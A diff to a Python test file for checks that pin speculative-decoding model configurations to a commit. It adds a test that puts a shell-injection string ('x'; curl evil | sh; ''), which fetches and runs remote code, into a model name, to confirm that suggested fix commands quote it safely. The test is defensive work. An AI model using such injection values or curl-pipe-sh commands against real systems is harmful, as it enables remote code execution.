@@ -1,4 +1,5 @@
 import json
+import shlex
 from pathlib import Path
 
 import pytest
@@ -123,6 +124,13 @@ def test_layers_of_the_model_itself_are_loaded_at_its_commit() -> None:
         require("-sc.method=mtp", f"-sc.revision={COMMIT}", f"-sc.code_revision={OTHER}")
     require("-sc.method=mtp", f"-sc.revision={COMMIT}")
     require("--spec-method=mtp", f"-sc.revision={COMMIT}")
+
+
+def test_a_name_in_a_table_is_one_word_of_a_fix() -> None:
+    name = "x'; curl evil | sh; '"
+    config = json.dumps({"model": name, "revision": "COMMIT"})
+    with raises_problem("names no commit", fix=f"--speculative-config {shlex.quote(config)}"):
+        require("--speculative-config", json.dumps({"model": name}))
 
 
 def test_of_two_configurations_each_is_pinned_by_itself() -> None:
